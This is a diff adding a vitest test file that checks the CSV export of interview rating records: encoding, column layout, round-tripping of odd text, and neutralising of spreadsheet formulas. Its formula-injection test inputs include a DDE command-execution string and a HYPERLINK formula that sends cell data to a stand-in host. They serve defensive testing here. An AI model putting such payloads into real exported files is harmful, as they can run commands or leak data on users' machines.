@@ -1,0 +1,165 @@
+import fc from 'fast-check'
+import Papa from 'papaparse'
+import { expect, test } from 'vitest'
+import type { Interview } from '../../../shared/interview/state.ts'
+import { recordToCsv } from '../../../shared/record/export-csv.ts'
+import { exportRecord } from '../../../shared/record/export-json.ts'
+import { viewRecord } from '../../../shared/record/view.ts'
+import { aPanel, after, as, notRated, rated } from '../../support/interviews.ts'
+import {
+  addLate,
+  agree,
+  excuse,
+  open,
+  reveal,
+  revise,
+  seal,
+  skip,
+  start,
+  voidRound,
+} from '../../support/orders.ts'
+
+type Row = Record<string, string>
+
+const csvOf = (interview: Interview) => recordToCsv(exportRecord(viewRecord(interview)))
+
+/** The rows as a spreadsheet or a script reads them. */
+function rowsIn(csv: string): Row[] {
+  const { data, errors } = Papa.parse<Row>(csv.slice(1), { header: true, skipEmptyLines: true })
+  expect(errors).toEqual([])
+  return data
+}
+const rowsOf = (interview: Interview) => rowsIn(csvOf(interview))
+const rowOf = (interview: Interview, member: string) =>
+  rowsOf(interview).find((row) => row['member'] === member)
+
+const running = after(aPanel({ policy: { kind: 'facilitator' } }), start(), open('q1'))
+/** Ann's evidence, revealed. */
+const withEvidence = (evidence: string) =>
+  after(running, seal('ann', 'q1', rated(3, evidence)), reveal('q1', 'for a reason'))
+
+test('[EXPORT-1] the CSV begins with a byte-order mark and ends its lines as spreadsheets do', () => {
+  const csv = csvOf(withEvidence('as it was'))
+  expect(csv.startsWith('\uFEFFinterview,')).toBe(true)
+  expect(csv.split('\r\n')).toHaveLength(3 + 2) // a header, three panelists, the end
+})
+
+test.each([
+  '=1+1',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00A0=1+1',
+  '＝1+1',
+  '=HYPERLINK("http://example.org?"&A1)',
+  "=cmd|' /C calc'!A0",
+])('[EXPORT-1] %j is no formula in any cell of the CSV', (text) => {
+  const revised = after(
+    aPanel({ policy: { kind: 'facilitator' } }),
+    start(),
+    open('q1'),
+    seal('ann', 'q1', rated(3, text)),
+    seal('bob', 'q1', notRated(text)),
+    as('fay', { type: 'reveal-round', roundId: 'q1', force: text }),
+    as('ann', { type: 'revise-rating', roundId: 'q1', rating: rated(2, text), reason: text }),
+    as('fay', { type: 'record-consensus', roundId: 'q1', level: null, reason: text }),
+    as('fay', { type: 'skip-round', roundId: 'q2', reason: text }),
+  )
+  const cells = rowsOf({ ...revised, candidate: text, role: text }).flatMap(Object.values)
+  expect(cells.filter((cell) => cell.includes(text))).toHaveLength(19)
+  expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
+})
+
+test('[EXPORT-1] numbers stay numbers', () => {
+  const row = rowOf(withEvidence(''), 'Ann')
+  expect([row?.['blind score'], row?.['weight'], row?.['kit version']]).toEqual(['3', '1', '1'])
+})
+
+test('[EXPORT-1] whatever was written comes out of the CSV as it was', () => {
+  const record = exportRecord(viewRecord(withEvidence('HERE')))
+  const csvWith = (evidence: string) => {
+    const text = JSON.stringify(record).replace('"HERE"', () => JSON.stringify(evidence))
+    return recordToCsv(JSON.parse(text))
+  }
+  const points = fc.array(fc.oneof(fc.nat(0x7f), fc.nat(0x10ffff)), { maxLength: 60 })
+  const written = points.map((some) => `“${String.fromCodePoint(...some).toWellFormed()}"`)
+  const odd = fc.constantFrom('a "b" c', 'one\r\ntwo\nthree\rfour', 'a,b;c\td', '日本 👩🏽‍🔬', '')
+  fc.assert(
+    fc.property(fc.oneof(written, odd), (evidence) => {
+      expect(rowsIn(csvWith(evidence))[0]?.['blind evidence']).toBe(evidence)
+    }),
+  )
+})
+
+test('[REVISE-1] blind, late and revised ratings have columns of their own in the CSV', () => {
+  const interview = after(
+    running,
+    seal('ann', 'q1', rated(3, 'blind words', ['3.1', '2.2'])),
+    excuse('bob', 'q1'),
+    reveal('q1', 'for a reason'),
+    revise('ann', 'q1', rated(2, 'second words')),
+    revise('ann', 'q1', notRated('third words')),
+    addLate('cyd', 'q1', rated(1, 'late words')),
+    agree('q1', 2, 'talked it over'),
+  )
+  const [first, second, bob, cyd] = rowsOf(interview)
+  const blind = {
+    'blind level': 'Level 3',
+    'blind score': '3',
+    'blind evidence': 'blind words',
+    'blind criteria heard': 'question 1 3 first | question 1 2 second',
+  }
+  expect(first).toMatchObject({
+    ...blind,
+    member: 'Ann',
+    status: 'rated',
+    revision: '1',
+    'revised level': 'Level 2',
+    'revised evidence': 'second words',
+    'revised because': 'for a reason',
+    consensus: 'Level 2',
+    'consensus reason': 'talked it over',
+    'revealed by': 'forced',
+  })
+  expect(second).toMatchObject({
+    ...blind,
+    revision: '2',
+    'revised level': '',
+    'revised not rated because': 'third words',
+  })
+  expect(bob).toMatchObject({
+    status: 'excused',
+    'excused because': 'absent: for a reason',
+    'blind level': '',
+    'revised level': '',
+  })
+  expect(cyd).toMatchObject({
+    status: 'late',
+    'blind level': '',
+    'late level': 'Level 1',
+    'late evidence': 'late words',
+  })
+})
+
+test('[VOID-1] the CSV says why a round was set aside, rated or not', () => {
+  const interview = after(
+    running,
+    seal('ann', 'q1'),
+    reveal('q1', 'for a reason'),
+    voidRound('q1'),
+    skip('q2'),
+  )
+  const told = rowsOf(interview).map((row) => [
+    row['round'],
+    row['state'],
+    row['set aside because'],
+  ])
+  expect(told).toEqual([
+    ...Array<string[]>(3).fill(['q1', 'voided', 'for a reason']),
+    ['q2', 'skipped', 'for a reason'],
+  ])
+})
